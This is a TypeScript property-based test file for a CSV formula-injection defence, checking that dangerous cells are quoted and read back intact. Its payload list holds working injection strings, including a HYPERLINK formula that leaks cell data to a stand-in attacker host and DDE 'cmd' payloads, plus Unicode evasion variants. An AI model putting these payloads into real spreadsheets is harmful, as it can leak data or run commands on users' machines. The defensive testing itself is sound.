import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell, safeCast } from './csv-safety.ts';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1',
  '\r=1',
  '=1+1',
  "=cmd|' /C notepad'!'A1'",
  '-',
  '+',
  ' =1+1',
  '\u00a0 =HYPERLINK("http://evil.example")',
  '\n=1',
  '\uff1dHYPERLINK("http://evil.example")',
  '\uff0b1',
  '\uff20SUM(1)',
  "'=1+1",
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const SPACE = fc.constantFrom('', ' ', '  ', '\u00a0', '\u3000', '\u2002');
/** What a spreadsheet could run: a trigger, after spaces or not (or a cell that is a plain number). */
const runnable = (cell: string) => TRIGGERS.some((t) => cell.replace(/^[ \u00a0\u2000-\u200b\u3000\ufeff]*/, '').startsWith(t)) && !PLAIN_NUMBER.test(cell);
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe('neutraliseCell', () => {
  it.each(PAYLOADS)('quotes %j', (payload) => {
    expect(neutraliseCell(payload)).toBe(`'${payload}`);
  });

  it.each(['-12', '-0.5', '+3', '1e5', '-2.5E-3', '42'])('leaves the number %j alone', (n) => {
    expect(neutraliseCell(n)).toBe(n);
  });

  it('leaves ordinary text alone', () => {
    expect(neutraliseCell('JNIM: Group for Support of Islam and Muslims')).toBe('JNIM: Group for Support of Islam and Muslims');
    expect(neutraliseCell('جماعة نصرة الإسلام والمسلمين')).toBe('جماعة نصرة الإسلام والمسلمين');
  });

  it('no cell a spreadsheet would run survives, nothing else changes, and what was written can be read back', () => {
    const dangerous = fc.tuple(SPACE, fc.constantFrom(...TRIGGERS), fc.string()).map(([sp, t, s]) => sp + t + s);
    const quoted = fc.oneof(fc.string(), dangerous).map((s) => `'${s}`);
    fc.assert(
      fc.property(fc.oneof(fc.string(), dangerous, quoted, fc.constantFrom(...PAYLOADS)), (cell) => {
        const out = neutraliseCell(cell);
        expect(out).toBe(runnable(cell) || cell.startsWith("'") ? `'${cell}` : cell);
        expect(runnable(out)).toBe(false);
        expect(restoreCell(out)).toBe(cell);
      }),
    );
  });

  it('through csv-stringify and back, every cell is safe and reads back as written', () => {
    const dangerous = fc.tuple(SPACE, fc.constantFrom(...TRIGGERS), fc.string()).map(([sp, t, s]) => sp + t + s);
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string(), dangerous), { minLength: 1, maxLength: 6 }), (row) => {
        const [parsed] = parse(stringify([row], { cast: safeCast }), { relax_quotes: true }) as string[][];
        for (const cell of parsed!) expect(runnable(cell)).toBe(false);
        expect(parsed!.map(restoreCell)).toEqual(row);
      }),
    );
  });
});
